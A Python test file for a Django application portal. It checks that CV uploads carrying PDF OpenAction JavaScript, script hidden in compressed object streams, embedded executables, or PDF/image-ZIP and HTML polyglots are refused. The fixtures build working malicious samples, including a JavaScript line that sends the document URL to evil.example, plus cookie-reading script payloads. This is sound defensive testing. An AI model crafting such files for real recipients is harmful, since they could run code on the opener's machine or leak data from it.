"""Attack: an application document that attacks the person who opens it.

A pupil (or anyone with a pupil account) uploads a "CV" to an application; the company's recruiter opens it.
The old check looked only at the first bytes (`%PDF-`, JPEG SOI, PNG signature), so it let through:
- a PDF that runs JavaScript on opening (`/OpenAction`), also hidden inside a compressed object stream;
- a PDF with an embedded executable (`/EmbeddedFiles`);
- a polyglot: a valid PDF or image that is at the same time a ZIP archive or an HTML page (appended after the
  end marker), which another program or a mis-sniffing browser opens as that other format;
- a file that starts like a PDF but is none (pypdf cannot parse it).

Defence: `core.uploads.document_type` parses PDFs with pypdf and refuses active content (/JavaScript, /JS,
/OpenAction actions, /AA, /Launch, /EmbeddedFile(s), /RichMedia, /XFA, …) in every object, in the raw bytes and
in decompressed object streams; it refuses data after the end marker (%%EOF, JPEG EOI, PNG IEND) beyond a small
padding, a ZIP end record, HTML at the start or the end; and walks JPEG/PNG structures to their end marker.
Each refusal is a German field error on the upload form.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image
from pypdf import PdfWriter
from pypdf.actions import JavaScript

from ausbildung.offers.models import Application
from tests.offers.conftest import PDF, demo_offer

ACTIVE = "Die PDF-Datei enthält aktive Inhalte"
OTHER_TYPE = "Die Datei enthält Daten eines anderen Dateityps"
UNREADABLE = "Die PDF-Datei kann nicht gelesen werden"
BROKEN_IMAGE = "Die Bilddatei ist beschädigt"


def written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def pdf_with_open_action_javascript() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_open_action(JavaScript("app.launchURL('https://evil.example/?c=' + this.URL);"))
    return written(writer)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_attachment("bewerbung.exe", b"MZ\x90\x00")
    return written(writer)


def pdf_with_javascript_in_an_object_stream() -> bytes:
    """The catalog and a JavaScript action inside a Flate-compressed object stream: no active name in raw bytes."""
    objects = {
        2: b"<</Type/Catalog/Pages 3 0 R/OpenAction 5 0 R>>",
        3: b"<</Type/Pages/Kids[4 0 R]/Count 1>>",
        4: b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]>>",
        5: b"<</S/JavaScript/JS(app.alert\\(1\\))>>",
    }
    offsets, body = [], b""
    for number, text in objects.items():
        offsets.append(b"%d %d" % (number, len(body)))
        body += text + b" "
    head = b" ".join(offsets) + b" "
    stream = zlib.compress(head + body)
    out = b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n"
    stream_at = len(out)
    out += b"1 0 obj\n<</Type/ObjStm/N 4/First %d/Filter/FlateDecode/Length %d>>stream\n" % (
        len(head),
        len(stream),
    )
    out += stream + b"\nendstream\nendobj\n"
    xref_at = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535), struct.pack(">BIH", 1, stream_at, 0)]
    rows += [struct.pack(">BIH", 2, 1, index) for index in range(4)] + [struct.pack(">BIH", 1, xref_at, 0)]
    xref = b"".join(rows)
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 4 2]/Root 2 0 R/Length %d>>stream\n" % len(xref)
    out += xref + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at
    assert b"JavaScript" not in out and b"OpenAction" not in out
    return out


def zip_archive() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("index.html", "<script>alert(document.cookie)</script>")
    return buffer.getvalue()


def image(kind: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (20, 20), (200, 30, 30)).save(buffer, kind)
    return buffer.getvalue()


def upload_page(client, application: Application, name: str, content: bytes):
    return client.post(
        reverse("offers:document_upload", kwargs={"application_id": application.pk}),
        {"file": SimpleUploadedFile(name, content)},
        HTTP_ACCEPT_LANGUAGE="de",
    )


@pytest.fixture
def application(demo) -> Application:
    return Application.objects.create(offer=demo_offer(), applicant=demo["schueler"], message="Hallo")


@pytest.mark.parametrize(
    ("name", "content", "error"),
    [
        ("lebenslauf.pdf", pdf_with_open_action_javascript(), ACTIVE),
        ("lebenslauf.pdf", pdf_with_javascript_in_an_object_stream(), ACTIVE),
        ("lebenslauf.pdf", pdf_with_embedded_file(), ACTIVE),
        ("lebenslauf.pdf", PDF + zip_archive(), OTHER_TYPE),
        ("lebenslauf.pdf", PDF + b"<html><script>alert(1)</script></html>", OTHER_TYPE),
        ("lebenslauf.pdf", b"%PDF-1.7\n<script>alert(1)</script>\n%%EOF\n", OTHER_TYPE),
        ("lebenslauf.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", UNREADABLE),
        ("foto.png", image("PNG") + zip_archive(), BROKEN_IMAGE),
        ("foto.jpg", image("JPEG") + zip_archive(), BROKEN_IMAGE),
        ("foto.jpg", image("JPEG")[:-200], BROKEN_IMAGE),
    ],
    ids=[
        "pdf-openaction-javascript",
        "pdf-javascript-in-object-stream",
        "pdf-embedded-executable",
        "pdf-zip-polyglot",
        "pdf-html-after-eof",
        "pdf-html-at-start",
        "pdf-unparseable",
        "png-zip-polyglot",
        "jpeg-zip-polyglot",
        "jpeg-truncated",
    ],
)
def test_dangerous_document_is_refused_with_a_german_field_error(
    client_for, application, name, content, error
):
    response = upload_page(client_for("pupil"), application, name, content)

    assert response.status_code == 400
    assert error in response.content.decode()
    assert not application.documents.exists()


@pytest.mark.parametrize(
    ("name", "content"),
    [("lebenslauf.pdf", PDF), ("foto.png", image("PNG")), ("foto.jpg", image("JPEG"))],
    ids=["plain-pdf", "png", "jpeg"],
)
def test_plain_documents_are_still_accepted(client_for, application, name, content):
    response = upload_page(client_for("pupil"), application, name, content)

    assert response.status_code == 302
    assert application.documents.count() == 1
